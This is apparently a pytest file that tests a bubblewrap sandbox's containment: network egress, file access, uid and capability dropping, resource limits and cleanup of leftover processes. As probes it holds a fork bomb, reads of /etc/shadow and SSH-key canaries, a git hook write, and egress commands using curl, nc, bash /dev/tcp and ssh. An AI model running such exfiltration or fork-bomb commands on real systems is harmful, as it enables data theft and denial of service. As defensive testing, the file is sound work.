"""Containment tests for infraops.experiments.sandbox: every test starts real bubblewrap
sandboxes."""

from __future__ import annotations

import contextlib
import os
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import psutil
import pytest

from infraops.experiments.sandbox import (
    SandboxIdentity,
    SandboxLimits,
    SandboxResult,
    SandboxSpec,
    SandboxUnavailable,
    launch,
    mounts,
    pid_namespace,
    sandbox_check,
    sandbox_prepare_dir,
    sandbox_read_output,
    sandbox_run,
    uids,
)
from tests.infraops.conftest import Dirs, make_dirs

PYTHON = "/usr/bin/python3"
# A sleep length no other process on the host uses: unique per test process, since the suite
# runs in several (pytest-xdist) and a test looks for leftovers by it across the host.
MARKER = f"31.4{os.getpid()}"
IS_ROOT = os.geteuid() == 0


@pytest.fixture(autouse=True, params=["compiled-supervisor", "python-supervisor"])
def supervisor(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Every containment test runs under both supervisors: the C one scripts/setup.sh builds,
    and the Python one used where no compiler was available."""
    if request.param == "python-supervisor":
        monkeypatch.setattr(launch, "SUPERVISOR_BINARY", Path("/nonexistent/supervisor"))
    elif not os.access(launch.SUPERVISOR_BINARY, os.X_OK):
        pytest.fail("the compiled supervisor is missing: run scripts/setup.sh")
    return str(request.param)


@pytest.fixture
def own_dirs() -> Iterator[Dirs]:
    """Folders whose runs go as a uid of this test process alone (as root): a test that
    counts the uid's processes left on the host then never counts another process's run."""
    made = make_dirs()
    if IS_ROOT:
        made.identity = SandboxIdentity(uid=1_900_100_000 + os.getpid(),
                                        gid=1_900_100_000 + os.getpid())
        for folder in (made.work, made.out):
            sandbox_prepare_dir(folder, made.identity)
    yield made
    shutil.rmtree(made.base, ignore_errors=True)


def limits(**overrides: float) -> SandboxLimits:
    values: dict[str, float] = {
        "wall_seconds": 20.0, "cpu_seconds": 10, "address_space_mb": 1024, "file_size_mb": 64,
        "processes": 64, "output_bytes": 100_000,
    }
    values.update(overrides)
    return SandboxLimits(**values)  # type: ignore[arg-type]


def run(dirs: Dirs, command: str, **kwargs: object) -> SandboxResult:
    kwargs.setdefault("identity", dirs.identity if IS_ROOT else None)
    spec = SandboxSpec(
        command=command, workdir=dirs.work, out_dir=dirs.out,
        env=kwargs.pop("env", {}),  # type: ignore[arg-type]
        readonly_binds=kwargs.pop("readonly_binds", ()),  # type: ignore[arg-type]
        limits=kwargs.pop("limits", limits()),  # type: ignore[arg-type]
    )
    return sandbox_run(spec, **kwargs)  # type: ignore[arg-type]


def python(code: str) -> str:
    return f"{PYTHON} -c '{code}'"


def orphaned_zombies(uid: int) -> set[int]:
    """Dead processes of uid left to the host's init, which may never reap them."""
    found = set()
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                status = (entry / "status").read_text()
            except OSError:
                continue
            fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
            if (fields["State"].split()[0], fields["PPid"].strip(), fields["Uid"].split()[0]) == (
                "Z", "1", str(uid),
            ):
                found.add(int(entry.name))
    return found


def start_time(pid: int) -> bytes:
    """Field 22 of /proc/PID/stat: tells a process from a later one that reuses its pid."""
    stat_line = Path(f"/proc/{pid}/stat").read_bytes()
    return stat_line[stat_line.rindex(b")") :].split()[20]


class NamespaceWatch:
    """Pins a run's pid namespace, named by the run's first output line (`readlink
    /proc/self/ns/pid`), so that its processes can be looked for after the run without
    confusing it with a later sandbox that reuses the inode number."""

    def __init__(self) -> None:
        self.fd: int | None = None
        self.seen: dict[int, bytes] = {}  # host pid -> its /proc stat line, start time included

    def on_output(self, stream: str, chunk: bytes) -> None:
        if self.fd is not None or stream != "stdout" or not chunk.startswith(b"pid:["):
            return
        inode = int(chunk[5 : chunk.index(b"]")])
        for entry in Path("/proc").iterdir():
            try:
                if entry.name.isdigit() and (entry / "ns" / "pid").stat().st_ino == inode:
                    self.seen[int(entry.name)] = start_time(int(entry.name))
                    if self.fd is None:
                        self.fd = os.open(entry / "ns" / "pid", os.O_RDONLY)
            except OSError:
                continue

    def members(self) -> list[int]:
        assert self.fd is not None, "the run's namespace was never seen"
        mine = os.fstat(self.fd)
        found = []
        for entry in Path("/proc").iterdir():
            try:
                info = (entry / "ns" / "pid").stat()
            except (OSError, ValueError):
                continue
            if (info.st_dev, info.st_ino) == (mine.st_dev, mine.st_ino):
                found.append(int(entry.name))
        return found

    def survivors(self) -> list[int]:
        """Processes seen during the run that still exist, as zombies included."""
        found = []
        for pid, started in self.seen.items():
            try:
                if start_time(pid) == started:
                    found.append(pid)
            except OSError:
                continue
        return found

    def close(self) -> None:
        if self.fd is not None:
            os.close(self.fd)


@pytest.fixture
def watch() -> Iterator[NamespaceWatch]:
    watcher = NamespaceWatch()
    yield watcher
    watcher.close()


def assert_nothing_left(
    watch: NamespaceWatch, identity: SandboxIdentity, zombies: set[int],
    caplog: pytest.LogCaptureFixture,
) -> None:
    # The module kills and logs leftovers itself; a clean run must not have needed that.
    assert [r.getMessage() for r in caplog.records
            if r.name == "infraops.experiments.sandbox"] == []
    assert watch.seen, "the run's processes were never seen"
    assert watch.members() == []
    assert watch.survivors() == []
    assert processes_with_marker(MARKER) == []
    assert orphaned_zombies(identity.uid) <= zombies


def processes_with_marker(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if marker.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


def host_can_connect(family: socket.AddressFamily, address: tuple[str, int] | str) -> bool:
    with socket.socket(family, socket.SOCK_STREAM) as probe:
        probe.settimeout(2)
        try:
            probe.connect(address)
        except OSError:
            return False
        return True


CONNECT = """
import socket, sys
family, address = {family}, {address!r}
s = socket.socket(family, socket.SOCK_STREAM)
s.settimeout(2)
try:
    s.connect(address)
except OSError as exc:
    print("blocked", type(exc).__name__)
    sys.exit(0)
print("connected")
"""


def connect_inside(dirs: Dirs, family: str, address: object) -> SandboxResult:
    script = dirs.work / "connect.py"
    script.write_text(CONNECT.format(family=family, address=address))
    return run(dirs, f"{PYTHON} connect.py")


# --------------------------------------------------------------------------- running


def test_it_runs_a_command_and_captures_output_and_metrics_written_to_out(dirs: Dirs) -> None:
    chunks: list[tuple[str, bytes]] = []
    result = run(
        dirs,
        'echo hello; echo oops >&2; pwd > where.txt; '
        'printf \'{"name": "latency", "value": %s}\\n\' "$LATENCY" > "$INFRAOPS_OUT/metrics.jsonl"',
        env={"LATENCY": "1.5"},
        on_output=lambda stream, chunk: chunks.append((stream, chunk)),
    )
    assert (result.reason, result.exit_code) == ("ok", 0)
    assert (result.stdout, result.stderr) == (b"hello\n", b"oops\n")
    assert not result.output_truncated
    assert b"".join(c for s, c in chunks if s == "stdout") == b"hello\n"
    assert b"".join(c for s, c in chunks if s == "stderr") == b"oops\n"
    assert (dirs.out / "metrics.jsonl").read_text() == '{"name": "latency", "value": 1.5}\n'
    assert (dirs.work / "where.txt").read_text() == "/work\n"
    assert 0 < result.wall_seconds < 5


def test_a_failing_command_reports_its_exit_status(dirs: Dirs) -> None:
    result = run(dirs, "echo failing >&2; exit 3")
    assert (result.reason, result.exit_code) == ("exit", 3)
    assert result.detail == "exited with status 3"


def test_it_runs_as_a_non_root_uid_without_capabilities(dirs: Dirs) -> None:
    result = run(dirs, "id -u; id -g; grep -E '^(CapEff|CapPrm|NoNewPrivs)' /proc/self/status")
    lines = result.stdout.decode().split("\n")
    assert lines[0] == str(dirs.identity.uid) != "0"
    assert lines[1] == str(dirs.identity.gid) != "0"
    assert "CapPrm:\t0000000000000000" in lines
    assert "CapEff:\t0000000000000000" in lines
    assert "NoNewPrivs:\t1" in lines


@pytest.mark.skipif(not IS_ROOT, reason="only root switches to the sandbox identity")
@pytest.mark.parametrize("identity", ["4294967295:999", "999:4294967295", "4294967296:999",
                                      "0:999", "999:0", "-1:999"])
def test_a_supervisor_refuses_an_identity_that_would_leave_the_run_as_root(
    identity: str, supervisor: str,
) -> None:
    # (uid_t)-1 means "unchanged" to setresuid, and 2**32 wraps to 0.
    if supervisor == "python-supervisor":
        prefix = [sys.executable, "-I", "-S", "-c", launch._SUPERVISOR]
    else:
        prefix = [str(launch.SUPERVISOR_BINARY)]
    status_read, status_write = os.pipe()
    try:
        result = subprocess.run(
            [*prefix, str(os.getpid()), "10,1073741824,1073741824,64", str(status_write),
             identity, "/usr/bin/id", "-u"],
            pass_fds=(status_write,), capture_output=True, timeout=30, check=False)
    finally:
        os.close(status_read)
        os.close(status_write)
    assert (result.returncode, result.stdout) == (125, b"")
    assert b"infraops-sandbox: malformed identity" in result.stderr


def test_a_non_root_identity_out_of_range_is_refused_before_anything_starts() -> None:
    if not IS_ROOT:
        pytest.skip("only root chooses the identity")
    with pytest.raises(SandboxUnavailable, match="not a usable id"):
        uids._run_identity(SandboxIdentity(uid=(1 << 32) - 1, gid=999))


def test_sandbox_check_passes_on_this_machine() -> None:
    assert sandbox_check() is None


# --------------------------------------------------------------------------- network


def test_tcp_connection_to_local_postgres_port_fails(dirs: Dirs) -> None:
    assert host_can_connect(socket.AF_INET, ("127.0.0.1", 5432)), "no PostgreSQL on the host"
    result = connect_inside(dirs, "socket.AF_INET", ("127.0.0.1", 5432))
    assert result.stdout.startswith(b"blocked"), result.stdout


def test_tcp_connection_to_local_redis_port_fails(dirs: Dirs) -> None:
    assert host_can_connect(socket.AF_INET, ("127.0.0.1", 6379)), "no Redis on the host"
    result = connect_inside(dirs, "socket.AF_INET", ("127.0.0.1", 6379))
    assert result.stdout.startswith(b"blocked"), result.stdout


def test_unix_socket_of_postgres_is_not_reachable(dirs: Dirs) -> None:
    path = "/var/run/postgresql/.s.PGSQL.5432"
    assert host_can_connect(socket.AF_UNIX, path), "no PostgreSQL socket on the host"
    result = connect_inside(dirs, "socket.AF_UNIX", path)
    assert result.stdout == b"blocked FileNotFoundError\n"


def test_dns_lookup_fails(dirs: Dirs) -> None:
    result = run(dirs, python('import socket; socket.getaddrinfo("example.com", 443)'))
    assert result.reason == "exit"
    assert b"socket.gaierror" in result.stderr


def test_the_only_network_interface_is_loopback(dirs: Dirs) -> None:
    result = run(dirs, "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '")
    assert result.stdout == b"lo\n"


# --------------------------------------------------------------------------- files


def test_etc_shadow_cannot_be_read(dirs: Dirs) -> None:
    assert Path("/etc/shadow").exists()
    result = run(dirs, "cat /etc/shadow; ls /etc")
    assert b"/etc/shadow: No such file or directory" in result.stderr
    listing = result.stdout.decode().split()
    assert "passwd" in listing
    assert not {"shadow", "gshadow", "sudoers", "gitconfig"} & set(listing)


@pytest.fixture
def fake_etc(dirs: Dirs, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A stand-in for /etc holding `hosts`; the sandbox's copies of it are removed afterwards."""
    source = dirs.base / "fake-etc"
    source.mkdir()
    (source / "hosts").write_text("127.0.0.1 first\n")
    monkeypatch.setattr(mounts, "_ETC_SOURCE", source)
    copies: list[Path] = []
    real = mounts._etc_snapshot

    def recorded() -> Path:
        copies.append(real())
        return copies[-1]

    monkeypatch.setattr(mounts, "_etc_snapshot", recorded)
    yield source
    for folder in set(copies):
        shutil.rmtree(folder, ignore_errors=True)


def test_etc_follows_a_changed_source_file(dirs: Dirs, fake_etc: Path) -> None:
    assert run(dirs, "cat /etc/hosts").stdout == b"127.0.0.1 first\n"
    (fake_etc / "hosts").write_text("127.0.0.1 second and longer\n")
    result = run(dirs, "cat /etc/hosts; ls /etc")
    assert result.stdout.split(b"\n")[:2] == [b"127.0.0.1 second and longer", b"hosts"]


def test_a_shared_etc_folder_that_others_may_write_fails_closed(
    dirs: Dirs, fake_etc: Path,
) -> None:
    mounts._etc_snapshot().chmod(0o777)
    with pytest.raises(SandboxUnavailable, match="only it may write"):
        run(dirs, "true")


@pytest.mark.skipif(not IS_ROOT, reason="the sandbox runs as our own uid")
def test_an_etc_file_only_root_may_read_stays_unreadable(dirs: Dirs, fake_etc: Path) -> None:
    (fake_etc / "services").write_text("secret 1/tcp\n")
    (fake_etc / "services").chmod(0o600)
    result = run(dirs, "cat /etc/hosts; cat /etc/services")
    assert result.stdout == b"127.0.0.1 first\n"
    assert b"Permission denied" in result.stderr


def test_a_planted_canary_outside_the_worktree_is_not_readable(dirs: Dirs) -> None:
    canary = dirs.base / "elsewhere" / "canary.txt"
    canary.parent.mkdir()
    canary.write_text("canary-3f9a")
    canary.chmod(0o644)
    checkout = Path(__file__).resolve().parents[3] / "pyproject.toml"
    result = run(dirs, f"cat {canary}; cat {checkout}; ls /work")
    assert b"canary-3f9a" not in result.stdout
    assert b"[project]" not in result.stdout
    assert result.stderr.count(b"No such file or directory") == 2


def test_none_of_the_hosts_secrets_is_readable_from_the_sandbox(dirs: Dirs) -> None:
    """Row S2: a canary in each place a secret lives, readable by anyone on the host (0644),
    so only the sandbox's own filesystem keeps it out: 0 of 5 read."""
    mark = uuid.uuid4().hex
    root = Path(__file__).resolve().parents[3]
    other = dirs.base / "other-run"  # another run's worktree, handed to the same uid
    sandbox_prepare_dir(other, dirs.identity)
    ssh = Path.home() / ".ssh"
    made_ssh = not ssh.exists()
    places = {
        "ssh key": ssh / f"id_ed25519.canary-{mark}",
        "service .env": root / f".env.canary-{mark}",
        "settings folder": root / "infraops" / f"secrets.canary-{mark}",
        "another run's worktree": other / "secret.txt",
    }
    try:
        ssh.mkdir(mode=0o700, exist_ok=True)
        for name, path in places.items():
            path.write_text(f"canary-{mark}-{name}\n")
            path.chmod(0o644)
        if IS_ROOT:
            os.chown(places["another run's worktree"], dirs.identity.uid, dirs.identity.gid)
        reads = [*places.values(), Path("/etc/shadow")]
        result = run(dirs, "; ".join(f"cat {path} && echo READ {path}" for path in reads))
    finally:
        for path in places.values():
            path.unlink(missing_ok=True)
        if made_ssh:
            shutil.rmtree(ssh, ignore_errors=True)
    read = [line for line in result.stdout.decode().splitlines() if line.startswith("READ ")]
    assert read == [], read
    assert f"canary-{mark}-".encode() not in result.stdout + result.stderr  # the contents
    assert b"root:" not in result.stdout  # /etc/shadow's first line
    assert result.stderr.count(b"No such file or directory") == 5, result.stderr


def test_no_write_outside_the_worktree_and_private_folders_succeeds(dirs: Dirs) -> None:
    """Row S3: 8 places outside, each writable on the host by the sandbox uid or by root:
    0 written; the worktree and the private tmp: written."""
    mark = uuid.uuid4().hex
    root = Path(__file__).resolve().parents[3]
    other = dirs.base / "other-run"
    sandbox_prepare_dir(other, dirs.identity)
    hooks = dirs.work / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (dirs.work / ".git" / "config").write_text("[core]\n")
    if IS_ROOT:
        for path in (hooks.parent, hooks, hooks.parent / "config"):
            os.chown(path, dirs.identity.uid, dirs.identity.gid)
    host_tmp = Path(tempfile.gettempdir()) / f"infraops-s3-{mark}"
    host_tmp.mkdir(mode=0o777)
    host_tmp.chmod(0o777)
    outside = [Path(f"/s3-{mark}"), Path(f"/etc/s3-{mark}"), Path.home() / f"s3-{mark}",
               root / f"s3-{mark}", host_tmp / "s3", other / f"s3-{mark}"]
    git_files = ["/work/.git/hooks/post-checkout", "/work/.git/config"]
    inside = ["/work/made", "/tmp/made"]
    try:
        writes = [str(path) for path in outside] + git_files + inside
        result = run(dirs, "; ".join(f"echo x >> {path} && echo WROTE {path}" for path in writes))
        written = {line.split()[1] for line in result.stdout.decode().splitlines()
                   if line.startswith("WROTE ")}
        left = [path for path in outside if path.exists()]
        # Home is a private tmpfs inside (what a probe writes there goes with the sandbox):
        # the host's home is what must stay untouched, and `left` checks it.
        assert written - {str(Path.home() / f"s3-{mark}")} == set(inside), written
        assert left == [], left
        assert list(hooks.iterdir()) == []
        assert (dirs.work / ".git" / "config").read_text() == "[core]\n"
        assert (dirs.work / "made").exists()
    finally:
        shutil.rmtree(host_tmp, ignore_errors=True)
        for path in outside:
            with contextlib.suppress(OSError):
                path.unlink()


def test_writes_outside_the_worktree_fail(dirs: Dirs) -> None:
    outside = ["/usr/planted", "/etc/planted", "/planted", "/bin/planted", "/proc/planted"]
    inside = ["/work/made", "/out/made", "/tmp/made", "/var/tmp/made", "/root/made"]
    result = run(dirs, "; ".join(f"touch {path} && echo WROTE {path}" for path in outside + inside))
    written = {line.split()[1] for line in result.stdout.decode().splitlines()}
    assert written == set(inside)
    assert not Path("/usr/planted").exists()
    assert (dirs.work / "made").exists()


def test_a_readonly_bind_cannot_be_written(dirs: Dirs) -> None:
    shared = dirs.base / "shared"
    shared.mkdir()
    (shared / "data.txt").write_text("original")
    # Owned by the sandbox uid, so only the read-only mount stands in the way.
    sandbox_prepare_dir(shared, dirs.identity)
    result = run(
        dirs, "cat /shared/data.txt; echo changed > /shared/data.txt; touch /shared/new; "
        "rm /shared/data.txt", readonly_binds=[(shared, "/shared")],
    )
    assert result.stdout == b"original"
    assert result.stderr.count(b"Read-only file system") == 3
    assert (shared / "data.txt").read_text() == "original"
    assert sorted(p.name for p in shared.iterdir()) == ["data.txt"]


def test_the_worktree_git_dir_is_read_only(dirs: Dirs) -> None:
    hooks = dirs.work / ".git" / "hooks"
    hooks.mkdir(parents=True)
    if IS_ROOT:
        for path in (hooks.parent, hooks):
            os.chown(path, dirs.identity.uid, dirs.identity.gid)
    result = run(dirs, "echo 'touch /tmp/pwned' > .git/hooks/post-checkout; touch ok")
    assert b"Read-only file system" in result.stderr
    assert list(hooks.iterdir()) == []
    assert (dirs.work / "ok").exists()


def test_a_symlink_or_fifo_planted_in_out_is_not_followed_when_read(dirs: Dirs) -> None:
    run(dirs, 'cd "$INFRAOPS_OUT"; ln -s /etc/shadow metrics.jsonl; mkfifo pipe; echo hi > real')
    with pytest.raises(OSError):
        sandbox_read_output(dirs.out, "metrics.jsonl", max_bytes=1000)
    with pytest.raises(OSError):
        sandbox_read_output(dirs.out, "pipe", max_bytes=1000)
    assert sandbox_read_output(dirs.out, "real", max_bytes=1000) == b"hi\n"
    assert sandbox_read_output(dirs.out, "missing", max_bytes=1000) is None


# --------------------------------------------------------------------------- processes


def test_environment_of_the_host_is_not_visible(
    dirs: Dirs, monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("INFRAOPS_TEST_CANARY", "secret-7c1e")
    result = run(
        dirs, "env; echo ---; cat /proc/[0-9]*/environ | tr '\\0' '\\n'",
        env={"PASSED_ON": "yes"},
    )
    assert b"secret-7c1e" not in result.stdout
    env = dict(line.split("=", 1) for line in result.stdout.decode().split("---")[0].split())
    assert env == {
        "PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": "/tmp", "LANG": "C.UTF-8",
        "INFRAOPS_OUT": "/out", "PASSED_ON": "yes", "PWD": "/work",  # PWD: set by sh itself
    }


def test_host_processes_are_not_visible(dirs: Dirs) -> None:
    result = run(dirs, "ls /proc | grep -c '^[0-9]'; cat /proc/1/comm")
    count, init = result.stdout.decode().split()
    assert int(count) <= 4  # bwrap's init, sh, ls, grep
    assert init == "bwrap"


FORK_BOMB = """
import os, sys, time
made = 0
try:
    while True:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        made += 1
except OSError:
    print(made, flush=True)
    raise
"""


@pytest.mark.xdist_group("shared-sandbox-uid")  # as the bombs of test_sandbox_limits.py
def test_fork_bomb_is_contained(
    own_dirs: Dirs, watch: NamespaceWatch, caplog: pytest.LogCaptureFixture,
) -> None:
    (own_dirs.work / "bomb.py").write_text(FORK_BOMB)
    zombies = orphaned_zombies(own_dirs.identity.uid)
    result = run(
        own_dirs, f"readlink /proc/self/ns/pid; {PYTHON} bomb.py {MARKER}",
        limits=limits(processes=20), on_output=watch.on_output,
    )
    assert result.reason == "process-limit", result.stderr
    assert b"Resource temporarily unavailable" in result.stderr
    assert int(result.stdout.split()[-1]) < 20
    assert result.wall_seconds < 10
    assert_nothing_left(watch, own_dirs.identity, zombies, caplog)


def test_memory_hog_is_contained(dirs: Dirs) -> None:
    result = run(dirs, python("b = bytearray(1 << 30)"), limits=limits(address_space_mb=256))
    assert result.reason == "memory-limit"
    assert b"MemoryError" in result.stderr
    assert result.detail == "ran out of memory under the 256 MB limit"


def test_cpu_spin_hits_cpu_limit(dirs: Dirs) -> None:
    result = run(dirs, python("while True: pass"), limits=limits(cpu_seconds=1))
    assert result.reason == "cpu-limit"
    assert result.exit_code in {128 + 24, 128 + 9}
    assert 1 <= result.wall_seconds < 10


def test_huge_file_hits_file_size_limit(dirs: Dirs) -> None:
    result = run(dirs, "head -c 5000000 /dev/zero > big", limits=limits(file_size_mb=1))
    assert result.reason == "file-size-limit"
    assert (dirs.work / "big").stat().st_size <= 1 << 20


def test_output_flood_is_capped(dirs: Dirs) -> None:
    streamed: list[int] = []
    result = run(
        dirs, "head -c 50000000 /dev/zero; echo done >&2", limits=limits(output_bytes=10_000),
        on_output=lambda stream, chunk: streamed.append(len(chunk)),
    )
    assert result.reason == "ok"
    assert len(result.stdout) == 10_000
    assert result.stderr == b"done\n"
    assert result.output_truncated
    assert sum(streamed) == 10_005


def test_sleep_past_timeout_is_killed_and_no_process_of_the_sandbox_uid_remains(
    own_dirs: Dirs, watch: NamespaceWatch, caplog: pytest.LogCaptureFixture,
) -> None:
    zombies = orphaned_zombies(own_dirs.identity.uid)
    result = run(
        own_dirs,
        f"readlink /proc/self/ns/pid; setsid sleep {MARKER} & (sleep {MARKER} &) ; sleep {MARKER}",
        limits=limits(wall_seconds=1), on_output=watch.on_output,
    )
    assert (result.reason, result.exit_code) == ("timeout", None)
    assert result.detail.startswith("killed after 1.")  # its own wall clock, not the sleep's
    assert_nothing_left(watch, own_dirs.identity, zombies, caplog)


def test_background_processes_do_not_outlive_a_finished_run(
    own_dirs: Dirs, watch: NamespaceWatch, caplog: pytest.LogCaptureFixture,
) -> None:
    zombies = orphaned_zombies(own_dirs.identity.uid)
    result = run(
        own_dirs, f"readlink /proc/self/ns/pid; setsid sleep {MARKER} & sleep 0.2; echo started",
        on_output=watch.on_output,
    )
    assert (result.reason, result.stdout.split()[-1]) == ("ok", b"started")
    assert result.wall_seconds < 5
    assert_nothing_left(watch, own_dirs.identity, zombies, caplog)


SERVICE = """
import os, sys
from pathlib import Path
from infraops.experiments import sandbox
from infraops.experiments.sandbox import launch
if sys.argv[1] == "python-supervisor":
    launch.SUPERVISOR_BINARY = Path("/nonexistent/supervisor")
work, out = Path(sys.argv[2]), Path(sys.argv[3])
sandbox.sandbox_run(sandbox.SandboxSpec(
    command="sleep " + os.environ["MARKER"], workdir=work, out_dir=out, env={}))
"""


def test_a_service_killed_mid_run_takes_every_process_of_the_run_with_it(
    dirs: Dirs, supervisor: str,
) -> None:
    # What a SIGKILLed worker pool process leaves: the parent-death signals of the supervisor
    # and of its child (set after the identity switch, which clears it) must end the run.
    service = subprocess.Popen(
        [sys.executable, "-c", SERVICE, supervisor, str(dirs.work), str(dirs.out)],
        cwd=Path(__file__).resolve().parents[3], env=os.environ | {"MARKER": MARKER})
    try:
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            run_tree = psutil.Process(service.pid).children(recursive=True)
            if ["sleep", MARKER] in (command_of(p) for p in run_tree):
                break
            time.sleep(0.05)
        else:
            pytest.fail("the sandboxed sleep never started")
    finally:
        service.kill()
        service.wait()
    deadline = time.monotonic() + 5
    while (alive := [p.pid for p in run_tree if still_running(p)]) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert alive == []  # zombies aside: reaping them is the host init's job


def command_of(process: psutil.Process) -> list[str]:
    try:
        return process.cmdline()
    except psutil.NoSuchProcess:
        return []


def still_running(process: psutil.Process) -> bool:
    try:
        return process.is_running() and process.status() != psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return False


def test_a_namespace_counts_as_ended_only_once_its_init_has_exited() -> None:
    # The shortcut that spares the post-run /proc scan; the containment tests above check
    # with their own scan that it never skips a leftover.
    init = subprocess.Popen(["sleep", MARKER])
    namespace = pid_namespace._Namespace(
        os.pidfd_open(init.pid), os.open(f"/proc/{init.pid}/ns/pid", os.O_RDONLY))
    try:
        assert not namespace.ended()
        init.kill()
        init.wait()
        assert namespace.ended()
    finally:
        namespace.close()


# --------------------------------------------------------------------------- failing closed


def test_sandbox_unavailable_when_bwrap_missing(
    dirs: Dirs, monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(launch, "BWRAP", "/nonexistent/bwrap")
    ran = dirs.base / "ran-unconfined"
    assert "bubblewrap (bwrap) is not installed" in (sandbox_check() or "")
    with pytest.raises(SandboxUnavailable, match="bwrap"):
        run(dirs, f"touch {ran}")
    assert not ran.exists()


def test_sandbox_unavailable_when_bwrap_cannot_start_a_sandbox(
    dirs: Dirs, monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(launch, "BWRAP", "/bin/false")
    problem = sandbox_check()
    assert problem is not None
    assert problem.startswith("The sandbox could not start")
    with pytest.raises(SandboxUnavailable):
        run(dirs, "true")


@pytest.mark.skipif(not IS_ROOT, reason="only root hands folders to another uid")
def test_prepare_dir_hands_the_tree_but_not_its_git_dir_to_the_sandbox_uid(dirs: Dirs) -> None:
    tree = dirs.base / "tree"
    (tree / "src").mkdir(parents=True)
    (tree / "src" / "main.py").write_text("")
    (tree / ".git").write_text("gitdir: elsewhere\n")
    (tree / "link").symlink_to("/etc/passwd")
    sandbox_prepare_dir(tree, dirs.identity)
    for path in (tree, tree / "src", tree / "src" / "main.py", tree / "link"):
        assert path.lstat().st_uid == dirs.identity.uid
    assert (tree / ".git").stat().st_uid == 0
    assert Path("/etc/passwd").stat().st_uid == 0


@pytest.mark.skipif(not IS_ROOT, reason="a private folder is reachable by its own uid")
def test_prepare_dir_refuses_a_folder_the_sandbox_uid_cannot_reach(dirs: Dirs) -> None:
    private = dirs.base / "private"
    private.mkdir(mode=0o700)
    assert stat.S_IMODE(private.stat().st_mode) == 0o700
    with pytest.raises(SandboxUnavailable, match="not searchable"):
        sandbox_prepare_dir(private / "work", dirs.identity)


# --------------------------------------------------------------------------- egress, one by one


class Listener:
    """A host TCP server on every interface that counts the bytes it receives: a canary for
    connections out of the sandbox that its own output would not show (ssh, curl, nc)."""

    def __init__(self) -> None:
        self.server = socket.create_server(("0.0.0.0", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.received = b""
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                peer, _ = self.server.accept()
            except OSError:
                continue
            with peer:
                peer.settimeout(1)
                try:
                    while chunk := peer.recv(65536):
                        self.received += chunk
                except OSError:
                    pass

    def bytes_before_control(self) -> bytes:
        """What arrived before a connection the host makes now (the listener takes
        connections in order, so once the control's bytes are in, anything earlier is too)."""
        with socket.create_connection(("127.0.0.1", self.port), timeout=5) as control:
            control.sendall(b"<control>")
        deadline = time.monotonic() + 30
        while not self.received.endswith(b"<control>") and time.monotonic() < deadline:
            time.sleep(0.05)
        assert self.received.endswith(b"<control>"), "the listener does not count bytes"
        before, self.received = self.received[:-len(b"<control>")], b""
        return before

    def close(self) -> None:
        self._stop = True
        self.server.close()
        self._thread.join()


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


def host_address() -> str:
    """The host's first address that is not loopback (where a listener on 0.0.0.0 answers
    from the host's network namespace), else 127.0.0.1."""
    for addresses in psutil.net_if_addrs().values():
        for address in addresses:
            if address.family == socket.AF_INET and not address.address.startswith("127."):
                return str(address.address)
    return "127.0.0.1"


PY_CONNECT = (PYTHON + " -c 'import socket, sys; s = socket.create_connection((sys.argv[1], "
              "int(sys.argv[2])), timeout=2); s.sendall(b\"canary\"); print(\"ESCAPED\")' ")

# (name, the tool it needs or None, the command; {host} and {port} are the listener's)
EGRESS: list[tuple[str, str | None, str]] = [
    ("tcp-to-an-external-ip", None, PY_CONNECT + "1.1.1.1 443"),
    ("tcp-to-the-hosts-address", None, PY_CONNECT + "{host} {port}"),
    ("tcp-to-loopback", None, PY_CONNECT + "127.0.0.1 {port}"),
    ("tcp-to-host-postgres", None, PY_CONNECT + "{host} 5432; " + PY_CONNECT + "127.0.0.1 5432"),
    ("tcp-to-host-redis", None, PY_CONNECT + "{host} 6379; " + PY_CONNECT + "127.0.0.1 6379"),
    ("postgres-unix-socket", None, PYTHON + " -c 'import socket; s = socket.socket(socket.AF_UNIX);"
     " s.connect(\"/var/run/postgresql/.s.PGSQL.5432\"); print(\"ESCAPED\")'"),
    ("redis-unix-socket", None, "for s in /var/run/redis/redis.sock /run/redis/redis-server.sock "
     "/tmp/redis.sock; do [ -S $s ] && echo ESCAPED $s; done; true"),
    ("dns", None, PYTHON + " -c 'import socket; socket.getaddrinfo(\"example.com\", 443); "
     "print(\"ESCAPED\")'"),
    ("getent", "getent", "getent hosts example.com && echo ESCAPED"),
    ("ping", "ping", "ping -c 1 -W 2 {host} && echo ESCAPED"),
    ("bash-dev-tcp", "bash", "bash -c 'echo canary > /dev/tcp/{host}/{port}' && echo ESCAPED"),
    ("curl", "curl", "curl -sS -m 3 -d canary http://{host}:{port}/ && echo ESCAPED; "
     "curl -sS -m 3 https://1.1.1.1/ && echo ESCAPED"),
    ("nc", "nc", "echo canary | nc -w 2 {host} {port} && echo ESCAPED"),
    ("ssh", "ssh", "ssh -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no "
     "-p {port} probe@{host} true && echo ESCAPED"),
]


@pytest.mark.parametrize(("tool", "command"), [(tool, command) for _, tool, command in EGRESS],
                         ids=[name for name, _, _ in EGRESS])
def test_each_way_out_of_the_sandbox_fails_and_the_host_listener_gets_nothing(
        dirs: Dirs, listener: Listener, tool: str | None, command: str) -> None:
    if tool is not None and shutil.which(tool) is None:
